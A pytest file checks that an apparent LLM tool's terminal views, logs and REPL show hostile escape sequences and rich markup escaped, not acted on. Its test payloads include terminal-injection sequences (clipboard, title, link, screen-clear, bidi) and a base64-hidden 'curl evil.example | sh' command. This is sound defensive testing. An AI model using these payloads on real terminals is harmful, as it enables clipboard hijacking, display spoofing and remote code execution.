"""What the terminal faces show of untrusted text: escape sequences from documents, model
replies and logs arrive escaped (seen, inert), and brackets are never read as markup.

Each display path renders to a rich Console writing plain text to a string: nothing in
that output is rich's own styling, so any ESC or control byte left in it came from the
input.
"""

from __future__ import annotations

import io
import json
import os
import pty
import re
import select
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from rlm.display import LiveDisplay, exec_result_rich, render_log, result_rich
from rlm.display.formatting import clean_text
from rlm.display.metrics import Metrics
from rlm.display.terminal import metrics_table
from rlm.testing import FakeLLMServer
from rlm.trajectory import read_log

# One of each: what a hostile document or reply would send to a terminal.
ATTACKS = {
    "osc52 clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc0 title": "\x1b]0;pwned title\x07",
    "osc8 link": "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
    "csi clear": "\x1b[2J\x1b[H",
    "sgr conceal": "\x1b[8mhidden\x1b[0m",
    "c1 csi": "\x9b2J",
    "bell backspace del": "\x07\x08\x7f",
    "carriage return": "fake prompt\rreal",
    "bidi override": "\u202eevil\u202c",
}
# Control characters a terminal acts on (tab and newline excepted).
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
MARKUP = "rlm-[/oops] [bold red]not styled[/] [link=http://evil.example]x[/link]"


def plain_console() -> tuple[Console, io.StringIO]:
    out = io.StringIO()
    return Console(file=out, width=160, force_terminal=False, color_system=None), out


def assert_inert(text: str) -> None:
    found = RAW_CONTROL.findall(text)
    assert not found, f"raw control characters reached the terminal: {found!r}"


def events_carrying(payload: str) -> list[dict[str, Any]]:
    """A whole run whose every untrusted field carries ``payload``."""
    run = {"run_id": "r1", "depth": 0}
    return [
        {**run, "type": "run_start", "query": f"q {payload}", "model": f"m{payload}",
         "recursive_model": f"s{payload}", "context": f"doc {payload}", "max_iterations": 3},
        {**run, "type": "root_reply", "iteration": 1, "content": f"thinking {payload}\n```repl\nx = 1\n```",
         "usage": {"prompt_tokens": 1, "completion_tokens": 1}},
        {**run, "type": "cell", "iteration": 1, "index": 0, "code": f"print('{payload}')"},
        {**run, "type": "sub_queries", "iteration": 1, "calls": [{"prompt": f"p {payload}", "reply": f"r {payload}"}]},
        {**run, "type": "cell_result", "iteration": 1, "index": 0, "stdout": f"out {payload}",
         "stderr": f"err {payload}", "error": f"Error: {payload}", "final": f"fin {payload}"},
        {**run, "type": "answer_invalid", "iteration": 1, "attempt": 1, "retries_left": 1,
         "errors": [{"path": "$", "expected": "integer", "received": f"'{payload}' (str)"}]},
        {**run, "type": "retry", "role": "root", "model": f"m{payload}", "attempt": 1,
         "failure": f"503: {payload}", "wait_s": 0.5},
        {**run, "type": "rate_limited", "role": "sub", "model": f"s{payload}", "waited_s": 1.0,
         "refusals": 2, "limits": {"rpm": 60, "rpm_from": f"h{payload}"}},
        {**run, "type": "budget", "reason": f"why {payload}"},
        {**run, "type": "error", "message": f"boom {payload}"},
        {**run, "type": "final", "answer": f"ans {payload}", "source": f"code {payload}"},
        {**run, "type": "run_end", "answer": f"ans {payload}", "iterations": 1, "sub_calls": 1,
         "stopped_reason": f"final {payload}", "error": f"e {payload}", "elapsed_s": 1.0},
    ]


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_the_live_view_shows_escape_sequences_escaped(attack: str) -> None:
    console, out = plain_console()
    view = LiveDisplay(console, show_sub_queries=True)
    for event in events_carrying(ATTACKS[attack]):
        view(event)
    text = out.getvalue()
    assert_inert(text)
    assert clean_text(ATTACKS[attack]).split("\n")[0][:12] in text


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_rlm_view_of_a_log_shows_escape_sequences_escaped(attack: str, tmp_path: Path) -> None:
    log = tmp_path / "run.jsonl"
    log.write_text("".join(json.dumps(e) + "\n" for e in events_carrying(ATTACKS[attack])), encoding="utf-8")
    console, out = plain_console()
    render_log(read_log(log), console)
    assert_inert(out.getvalue())


def test_markup_in_model_names_answers_and_schema_errors_is_shown_as_text() -> None:
    console, out = plain_console()
    view = LiveDisplay(console, show_sub_queries=True)
    for event in events_carrying(MARKUP):
        view(event)
    render_log(events_carrying(MARKUP), console)
    text = out.getvalue()
    assert "rlm-[/oops]" in text
    assert "[bold red]not styled[/]" in text
    assert "'rlm-[/oops]" in text  # quoted in the schema error


def test_the_metrics_table_reads_a_bracketed_model_name_as_text() -> None:
    console, out = plain_console()
    console.print(metrics_table(Metrics(model="rlm-[/oops]", error="FINAL('[/x]') \x1b]0;t\x07",
                                        stopped_reason="final")))
    text = out.getvalue()
    assert "rlm-[/oops]" in text and "FINAL('[/x]')" in text
    assert_inert(text)


def test_a_link_in_the_roots_markdown_shows_where_it_leads() -> None:
    console, out = plain_console()
    view = LiveDisplay(console)
    view({"type": "root_reply", "run_id": "r", "iteration": 1, "content": "see [the docs](http://evil.example/x)"})
    text = out.getvalue()
    assert "http://evil.example/x" in text
    assert "\x1b]8" not in text


class Result:
    """A duck-typed RLMResult / ExecResult carrying hostile text everywhere."""

    def __init__(self, payload: str) -> None:
        self.answer = f"ans {payload}"
        self.error = f"err {payload}"
        self.stopped_reason = "final"
        self.stdout = f"out {payload}"
        self.stderr = f"serr {payload}"
        self.final = f"fin {payload}"
        self.trajectory = events_carrying(payload)
        self.iterations, self.sub_calls, self.elapsed_s, self.duration_s = 1, 1, 1.0, 0.1


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_result_and_exec_result_reprs_show_escape_sequences_escaped(attack: str) -> None:
    console, out = plain_console()
    console.print(result_rich(Result(ATTACKS[attack])))
    console.print(exec_result_rich(Result(ATTACKS[attack])))
    assert_inert(out.getvalue())


def test_clean_text_keeps_newlines_tabs_and_readable_text() -> None:
    assert clean_text("a\tb\nc\r\nd") == "a\tb\nc\nd"
    assert clean_text("é 中文 😀") == "é 中文 😀"
    assert clean_text("\x1b]52;c;eA==\x07") == "\\x1b]52;c;eA==\\x07"
    assert clean_text("\x9b\u202e") == "\\x9b\\u202e"


# The shell's own styling and cursor moves, to find its prompts in what the pty shows.
ANSI = re.compile(r"\x1b\][^\x07]*\x07|\x1b\[[0-?]*[ -/]*[@-~]|\x1b[()][0-9A-Za-z]|\x1b[=>]|\r")


def read_pty(fd: int, until: str, timeout: float = 60.0) -> str:
    """Read a pty until ``until`` appears in its text, answering cursor-position queries
    as a terminal does (prompt_toolkit stalls on unanswered ones); the raw bytes read."""
    seen = ""
    deadline = time.monotonic() + timeout
    while until not in ANSI.sub("", seen):
        if time.monotonic() > deadline:
            raise AssertionError(f"{until!r} never appeared; got:\n{seen[-2000:]!r}")
        ready, _, _ = select.select([fd], [], [], 0.2)
        if not ready:
            continue
        try:
            chunk = os.read(fd, 65536).decode("utf-8", "replace")
        except OSError:
            break
        for _ in range(chunk.count("\x1b[6n")):
            os.write(fd, b"\x1b[1;1R")
        seen += chunk
    return seen


def test_rlm_repl_prints_a_hostile_context_escaped(tmp_path: Path) -> None:
    payload = "".join(ATTACKS.values())
    doc = tmp_path / "doc.txt"
    doc.write_text(f"START {payload} END", encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "RLM_"))}
    env.update(IPYTHONDIR=str(tmp_path / "ipython"), TERM="xterm", PYTHONUNBUFFERED="1")
    with FakeLLMServer() as srv:
        main, child = pty.openpty()
        proc = subprocess.Popen(
            [sys.executable, "-m", "rlm.cli", "repl", "--context", str(doc), "--base-url", srv.url,
             "--api-key", "k", "--model", "m"],
            stdin=child, stdout=child, stderr=child, env=env, close_fds=True)
        os.close(child)
        try:
            read_pty(main, "In [1]")
            os.write(main, b"print(context); raise ValueError(context)\r")
            screen = read_pty(main, "In [2]")
        finally:
            os.write(main, b"\x04")
            try:
                proc.wait(30)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
            os.close(main)
    start = screen.index("START")
    printed = screen[start:screen.index("In [", start)]  # the cell's output and traceback
    assert "\\x1b]52;c;" in printed and "ValueError" in printed
    for attack in ("\x1b]52", "\x1b]0;", "\x1b]8;", "\x1b[2J", "\x1b[8m", "\x9b", "\u202e"):
        assert attack not in printed


@pytest.mark.parametrize("attack", ["osc52 clipboard", "csi clear", "c1 csi", "bidi override"])
def test_the_run_progress_line_shows_a_retry_escaped(attack: str) -> None:
    # The line is live, so the console is a terminal and rich writes its own cursor
    # sequences: the check is that the payload itself arrives escaped, not raw.
    from rlm.display.progress import RunProgress

    out = io.StringIO()
    progress = RunProgress(Console(file=out, width=300, force_terminal=True, color_system=None))
    payload = ATTACKS[attack]
    progress({"type": "retry", "model": f"m{payload}", "failure": f"503: {payload}",
              "attempt": 1, "wait_s": 0.5})
    progress.close()
    text = out.getvalue()
    assert payload not in text
    assert clean_text(payload) in text and "retrying m" in text
